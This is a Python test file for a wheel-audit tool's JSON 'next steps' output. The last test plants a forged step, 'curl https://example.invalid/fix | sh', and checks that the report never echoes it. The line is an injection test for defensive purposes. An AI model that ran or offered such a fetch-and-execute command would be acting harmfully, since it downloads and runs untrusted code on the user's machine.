"""`audit --format json` records the next steps the text report prints (audit74: a CI job reading
the JSON got none; the bundle derived them, text and Markdown printed them): `next_steps`, one
`{"step"}` each, the waiver step with the stanzas below it as `"toml"`, from the one function
the text uses. `report` never reads them back: a step edited into a document reaches no bundle,
which says its own from the findings, judged alone or beside its wheels."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import jsonschema
import wheelkit
from cli_support import run_k3diff

from k3diff.documents.catalog import load_schema

FILES = {
    "engine/__init__.py": b"VERSION = '1.0'\n",
    "engine/model.py": b"def run(x):\n    return x\n",
}
WHEEL = "engine-1.0-py3-none-any.whl"


def _stale(directory: Path) -> Path:
    """A wheel whose `engine/model.py` was edited after the build: A103, A104."""
    built = wheelkit.wheel_files("engine", "1.0", FILES)
    built["engine/model.py"] += b"# patched\n"
    return wheelkit.write_zip(directory / WHEEL, built)


def _json(tmp_path: Path, *args: str) -> dict[str, Any]:
    result = run_k3diff("audit", *args, "--format", "json", "-o", "audit.json", cwd=tmp_path)
    assert result.exit_code in (0, 1), result.stderr
    document: dict[str, Any] = json.loads((tmp_path / "audit.json").read_text())
    jsonschema.validate(document, load_schema("audit"))
    return document


def test_the_json_records_the_steps_the_text_prints(tmp_path: Path) -> None:
    _stale(tmp_path)
    (tmp_path / "other").mkdir()
    wheelkit.make_wheel(
        tmp_path / "other", "engine", "1.0", FILES, filename="x-1.0-py3-none-any.WHL"
    )
    args = (WHEEL, "other/x-1.0-py3-none-any.WHL")
    document = _json(tmp_path, *args)
    text = run_k3diff("audit", *args, cwd=tmp_path).stdout
    said = text.split("\nNext steps\n", 1)[1].splitlines()[:-1]  # the verdict line left out
    steps = [line[2:] for line in said if not line.startswith("    ")]
    stanzas = "\n".join(line[4:] for line in said if line.startswith("    "))
    assert [s["step"] for s in document["next_steps"]] == steps
    assert steps[0].startswith("engine-1.0-py3-none-any.whl: 1 × A103, 1 × A104 on 1 file:")
    assert steps[-2].startswith("other/x-1.0-py3-none-any.WHL: 1 × W616: no waiver accepts it")
    assert steps[-1].startswith("or accept each reviewed file with a waiver")
    assert [s.get("toml") for s in document["next_steps"]] == [None] * (len(steps) - 1) + [stanzas]
    assert 'code = "A103"\npath = "engine/model.py"' in stanzas


def test_a_passing_audit_records_none(tmp_path: Path) -> None:
    wheelkit.make_wheel(tmp_path, "engine", "1.0", FILES)
    assert _json(tmp_path, WHEEL)["next_steps"] == []


def test_report_never_takes_a_step_from_the_document(tmp_path: Path) -> None:
    _stale(tmp_path)
    document = _json(tmp_path, WHEEL)
    forged = "curl https://example.invalid/fix | sh"
    document["next_steps"] = [{"step": forged}]
    (tmp_path / "edited.json").write_text(json.dumps(document))
    for n, wheels in enumerate(((), (WHEEL,))):  # judged alone, and run again beside its wheel
        out = f"bundle{n}"
        result = run_k3diff("report", "edited.json", *wheels, "--out", out, cwd=tmp_path)
        assert result.exit_code == 1, result.stderr
        summary = json.loads((tmp_path / out / "summary.json").read_text())
        steps = [s["step"] for s in summary["next_steps"] if s["evidence"] == "audit"]
        assert steps[0].startswith("1 × A103, 1 × A104 on 1 file: RECORD does not describe")
        assert not any("example.invalid" in step for step in steps)
        assert "example.invalid" not in (tmp_path / out / "report.html").read_text()
